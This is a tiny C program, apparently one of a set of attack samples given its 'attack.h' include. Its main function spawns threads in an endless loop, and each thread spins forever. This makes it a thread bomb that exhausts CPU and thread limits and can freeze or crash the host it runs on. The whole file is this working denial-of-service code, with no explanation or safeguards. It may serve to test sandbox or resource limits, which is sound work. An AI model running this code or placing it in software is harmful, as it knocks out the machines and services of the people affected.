#include "attack.h"
#include <pthread.h>
static void *spin(void *_) { for (;;); return _; }
int main(void) { pthread_t t; for (;;) pthread_create(&t, NULL, spin, NULL); }
